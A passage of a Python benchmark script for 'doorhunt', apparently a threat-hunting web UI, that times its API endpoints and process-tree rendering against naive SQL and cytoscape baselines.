            "build tree at a moment",
            "/api/tree",
            lambda r: {
                "entity": build,
                "host": BUILD_HOST,
                "at": (BUILD_AT + timedelta(seconds=1)).isoformat(),
            },
        ),
    ]


def event_calls(server: Server, rng: random.Random, runs: int) -> dict[str, list[float]]:
    """The flyout, correlation and filter explanation, on events the timeline listed."""
    timings: dict[str, list[float]] = {
        "event detail": [],
        "correlation ±30 s": [],
        "filter explained": [],
    }
    _, page = server.get("/api/timeline", {"host": INCIDENT_HOST, "limit": 200})
    rows = page["rows"]
    assert isinstance(rows, list) and rows
    for _ in range(runs):
        ref = rng.choice(rows)["ref"]
        timings["event detail"].append(server.get(f"/api/events/{ref}", {})[0])
        timings["correlation ±30 s"].append(
            server.get("/api/correlate", {"ref": ref, "category": ["file", "network"]})[0]
        )
        timings["filter explained"].append(
            server.get("/api/bpf/explain", {"bytecode": BPFDOOR_FIELDS["bytecode"], "lang": "ko"})[
                0
            ]
        )
    return timings


# Baseline: the same page questions through the store's generic calls (events(), count())
# and JSON extraction from `doc`, as a tool without hot-column queries and an index would.
def doc(field: str) -> str:
    """A field read from the JSON document, as a store without hot columns has to."""
    return "json_extract_string(doc, '$" + "".join(f'."{part}"' for part in field.split(".")) + "')"


def baseline_questions(
    scenario: dict[str, object], last: datetime
) -> dict[str, Callable[[StoreReader, random.Random], object]]:
    since = last - timedelta(days=1)

    def overview(reader: StoreReader, rng: random.Random) -> object:
        return (
            reader.sql(
                f"SELECT {doc('doorhunt.alert.severity')}, count(*) FROM events "
                f"WHERE {doc('event.kind')} = 'alert' GROUP BY 1"
            ),
            reader.sql(
                f"SELECT {doc('host.name')}, arg_max({doc('doorhunt.sweep.verdict')}, "
                f"{doc('@timestamp')}) FROM events "
                f"WHERE {doc('event.action')} = 'sweep_completed' GROUP BY 1"
            ),
        )

    def alerts(reader: StoreReader, rng: random.Random) -> object:
        return reader.events(where=[("event.kind", "alert")], limit=500)

    def hosts(reader: StoreReader, rng: random.Random) -> object:
        return reader.sql(
            "SELECT json_extract_string(doc, '$.host.name'), count(*) FROM events GROUP BY 1"
        )

    def histogram(reader: StoreReader, host: str | None) -> object:
        where = f"AND {doc('host.name')} = ?" if host else ""
        return reader.sql(
            f"SELECT time_bucket(INTERVAL 30 MINUTE, TRY_CAST({doc('@timestamp')} AS TIMESTAMPTZ)), "
            f'{doc("event.category")}, count(*) FROM events WHERE "timestamp" >= ? {where} '
            "GROUP BY ALL",
            [since, host] if host else [since],
        )

    def timeline(reader: StoreReader, rng: random.Random) -> object:
        return reader.events(since=since, until=last, limit=100), histogram(reader, None)

    def timeline_host(reader: StoreReader, rng: random.Random) -> object:
        host = rng.choice(list(scenario["hosts"]))  # type: ignore[call-overload]
        return reader.events(since=since, until=last, limit=100, host=host), histogram(reader, host)

    def tree(reader: StoreReader, rng: random.Random) -> object:
        descendants = reader.sql(
            f"WITH RECURSIVE links AS MATERIALIZED (SELECT DISTINCT {doc('process.entity_id')} c, "
            f"{doc('process.parent.entity_id')} p FROM events WHERE {doc('host.name')} = ?), "
            "down(e) AS (SELECT ?::VARCHAR UNION SELECT links.c FROM links JOIN down ON links.p = down.e) "
            "SELECT e FROM down",
            [BUILD_HOST, scenario["build_entity"]],
        )
        entities = [row[0] for row in descendants]
        return reader.sql(
            f'SELECT {doc("process.entity_id")} AS e, arg_max({doc("process.name")}, "timestamp"), '
            f'min("timestamp"), list({doc("event.category")}) FROM events '
            f"WHERE {doc('host.name')} = ? AND list_contains(?::VARCHAR[], {doc('process.entity_id')}) "
            "GROUP BY 1",
            [BUILD_HOST, entities],
        )

    return {
        "overview": overview,
        "alerts": alerts,
        "hosts": hosts,
        "timeline": timeline,
        "timeline, one host": timeline_host,
        "analyzer": tree,
    }


def bench_pages(
    data: Path, scenario: dict[str, object], runs: int, baseline_runs: int
) -> tuple[float, dict[str, float]]:
    info = Store(data / "store").info()
    assert info.last is not None
    last = info.last
    print(
        f"== API calls of every page over {info.events:,} stored events ({info.segments} segments)"
    )
    server = Server(data)
    worst = 0.0
    ours: dict[str, list[float]] = {}
    try:
        warm = server.wait_ready()
        rss, peak = server.memory()
        print(f"  server up, segment index built in {warm:.1f} s; RSS {rss} MiB (peak {peak} MiB)")
        rng = random.Random(1)
        print(f"  {'page':9s} {'call':34s} {'p50 ms':>8s} {'p95 ms':>8s}")
        for page, label, path, make in page_calls(scenario, last):
            timings = [server.get(path, make(rng))[0] for _ in range(runs)]
            p50, p95 = statistics.median(timings), percentile(timings, 0.95)
            worst = max(worst, p95)
            ours.setdefault(page, []).extend(timings)
            print(f"  {page:9s} {label:34s} {p50:8.1f} {p95:8.1f}")
        for label, timings in event_calls(server, rng, runs).items():
            p50, p95 = statistics.median(timings), percentile(timings, 0.95)
            worst = max(worst, p95)
            ours.setdefault("timeline", []).extend(timings)
            print(f"  {'timeline':9s} {label:34s} {p50:8.1f} {p95:8.1f}")
        rss, peak = server.memory()
        print(
            f"  server RSS after all calls: {rss} MiB, peak {peak} MiB (target <= 400 MiB): "
            f"{'met' if peak <= 400 else 'NOT met'}"
        )
    finally:
        server.stop()
    print(f"  worst p95 {worst:.1f} ms (target <= 200 ms): {'met' if worst <= 200 else 'NOT met'}")

    print(
        f"  baseline: the same questions through events()/count() and JSON from `doc` ({baseline_runs} runs)"
    )
    ratios: dict[str, float] = {}
    ours_calls = {
        "overview": ("/api/overview", {}),
        "alerts": ("/api/alerts", {"status": "open", "limit": 500}),
        "hosts": ("/api/hosts", {}),
        "timeline": (
            "/api/timeline",
            {
                "since": iso(int((last - timedelta(days=1)).timestamp() * 1e6)),
                "until": iso(int(last.timestamp() * 1e6)),
            },
        ),
        "timeline, one host": (
            "/api/timeline",
            {
                "host": INCIDENT_HOST,
                "since": iso(int((last - timedelta(days=1)).timestamp() * 1e6)),
                "until": iso(int(last.timestamp() * 1e6)),
            },
        ),
        "analyzer": ("/api/tree", {"entity": scenario["build_entity"], "host": BUILD_HOST}),
    }
    server = Server(data)
    try:
        server.wait_ready()
        with Store(data / "store").reader() as reader:
            rng = random.Random(2)
            for name, question in baseline_questions(scenario, last).items():
                naive = []
                for _ in range(baseline_runs):
                    started = time.perf_counter()
                    question(reader, rng)
                    naive.append((time.perf_counter() - started) * 1000)
                path, params = ours_calls[name]
                fast = [server.get(path, params)[0] for _ in range(max(5, baseline_runs))]
                ratio = statistics.median(naive) / statistics.median(fast)
                ratios[name] = ratio
                print(
                    f"  {name:22s} naive p50 {statistics.median(naive):9.1f} ms   ui p50 "
                    f"{statistics.median(fast):7.1f} ms   ratio {ratio:6.1f}x"
                )
    finally:
        server.stop()
    return worst, ratios


def bench_analyzer(data: Path, scenario: dict[str, object], runs: int) -> None:
    """The 5,003-process tree drawn in headless Chromium, from the click to the first frame."""
    try:
        from playwright.sync_api import sync_playwright  # noqa: PLC0415 - optional for a bench
    except ImportError:
        print("== analyzer in Chromium: skipped (pip install playwright)")
        return
    chromium = shutil.which("chromium")
    if chromium is None:
        print("== analyzer in Chromium: skipped (apt-get install chromium)")
        return
    print(f"== analyzer: the {BUILD_HOST} build tree (5,003 processes) in Chromium, {runs} runs")
    server = Server(data)
    try:
        server.wait_ready()
        with sync_playwright() as playwright:
            browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
            page = browser.new_page(viewport={"width": 1280, "height": 800})
            totals, parts = [], []
            for _ in range(runs):
                page.goto(f"{server.base}/#/overview")
                page.wait_for_selector("main[data-ready=true]")
                page.goto(
                    f"{server.base}/#/analyzer?entity={scenario['build_entity']}&host={BUILD_HOST}"
                )
                page.wait_for_selector("#graph[data-rendered]", timeout=60_000)
                timings = orjson.loads(page.get_attribute("#graph", "data-timings") or "{}")
                totals.append(float(timings["painted"]))
                parts.append(timings)
                assert page.get_attribute("#graph", "data-nodes") == "5003"
            p50 = statistics.median(totals)
            print(
                f"  click to first frame: p50 {p50:.0f} ms, max {max(totals):.0f} ms "
                f"(target <= 2,000 ms at the median): {'met' if p50 <= 2000 else 'NOT met'}"
            )
            middle = parts[totals.index(sorted(totals)[len(totals) // 2])]
            print(
                f"  of which: tree fetched {middle['fetched']} ms, laid out by {middle['laid_out']} ms, "
                f"cytoscape drawn by {middle['drawn']} ms, painted at {middle['painted']} ms"
            )
            # Baseline: the same tree through cytoscape's own breadthfirst layout.
            seconds = page.evaluate(
                BREADTHFIRST,
                f"{server.base}/api/tree?entity={scenario['build_entity']}&host={BUILD_HOST}",
            )
            print(
                f"  baseline, the same tree fetched and drawn with cytoscape's breadthfirst layout "
                f"(default style, no page around it): {seconds:.0f} ms (ratio {seconds / p50:.1f}x)"
            )
            ours, theirs = page.evaluate(
                LAYOUTS,
                f"{server.base}/api/tree?entity={scenario['build_entity']}&host={BUILD_HOST}",
            )
            print(
                f"  the layout alone (best of 3): ours {ours:.1f} ms, cytoscape's breadthfirst "
                f"{theirs:.0f} ms (ratio {theirs / max(ours, 0.1):.0f}x)"
            )
            browser.close()
    finally:
        server.stop()


LAYOUTS = """
async (url) => {
  const cytoscape = (await import('/static/vendor/cytoscape/cytoscape.esm.min.mjs')).default;
  const { layout } = await import('/static/js/pages/analyzer.js');
  const tree = await (await fetch(url)).json();
  const known = new Set(tree.nodes.map((n) => n.entity_id));
  const elements = [
    ...tree.nodes.map((n) => ({ data: { id: n.entity_id, label: n.name } })),
    ...tree.nodes.filter((n) => known.has(n.parent_entity_id))
      .map((n) => ({ data: { id: 'e' + n.entity_id, source: n.parent_entity_id, target: n.entity_id } })),
  ];
  let ours = Infinity;
  let theirs = Infinity;
  for (let run = 0; run < 3; run += 1) {
    let started = performance.now();
    layout(tree, new Map(), new Set(), true);
    ours = Math.min(ours, performance.now() - started);
    const cy = cytoscape({ headless: true, elements });
    started = performance.now();
    cy.layout({ name: 'breadthfirst', roots: [tree.root], directed: true }).run();
    theirs = Math.min(theirs, performance.now() - started);
    cy.destroy();
  }
  return [ours, theirs];
}
"""

BREADTHFIRST = """
async (url) => {
  const cytoscape = (await import('/static/vendor/cytoscape/cytoscape.esm.min.mjs')).default;
  const started = performance.now();  // from the fetch, as the analyzer's figure is
  const tree = await (await fetch(url)).json();
  const box = document.createElement('div');
  box.style.width = '900px';
  box.style.height = '600px';
  document.body.append(box);
  const known = new Set(tree.nodes.map((n) => n.entity_id));
  const cy = cytoscape({
    container: box,
    elements: [
      ...tree.nodes.map((n) => ({ data: { id: n.entity_id, label: n.name } })),
      ...tree.nodes.filter((n) => known.has(n.parent_entity_id))
        .map((n) => ({ data: { id: 'e' + n.entity_id, source: n.parent_entity_id, target: n.entity_id } })),
    ],
    layout: { name: 'breadthfirst', roots: [tree.root], directed: true },
  });
  await new Promise((resolve) => cy.one('render', () => requestAnimationFrame(resolve)));
  const elapsed = performance.now() - started;
  cy.destroy();
  return elapsed;
}
"""


def main() -> None:
    parser = argparse.ArgumentParser(
        description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter
    )
    parser.add_argument("--events", type=int, default=5_000_000)
    parser.add_argument("--runs", type=int, default=20, help="runs of each API call")
    parser.add_argument("--baseline-runs", type=int, default=3)
    parser.add_argument("--browser-runs", type=int, default=5)
    parser.add_argument("--workdir", type=Path, default=None, help="keeps the store between runs")
    parser.add_argument("--build-only", action="store_true")
    parser.add_argument(
        "--part", choices=("all", "api", "analyzer"), default="all", help="what to measure"
    )
    args = parser.parse_args()
    workdir = args.workdir or Path(
        tempfile.mkdtemp(prefix="doorhunt-bench-ui-", dir=os.environ.get("TMPDIR", "/var/tmp"))
    )
    workdir.mkdir(parents=True, exist_ok=True)
    print(f"doorhunt ui benchmark in {workdir} ({os.cpu_count()} cores)")
    try:
        if not (workdir / "scenario.json").exists():
            print(f"== building a store of {args.events:,} events")
            build_store(workdir, args.events)
        if args.build_only:
            return
        scenario = orjson.loads((workdir / "scenario.json").read_bytes())
        if args.part in ("all", "api"):
            bench_pages(workdir, scenario, args.runs, args.baseline_runs)
        if args.part in ("all", "analyzer"):
            bench_analyzer(workdir, scenario, args.browser_runs)
    finally:
        if args.workdir is None:
            shutil.rmtree(workdir, ignore_errors=True)


if __name__ == "__main__":
    main()
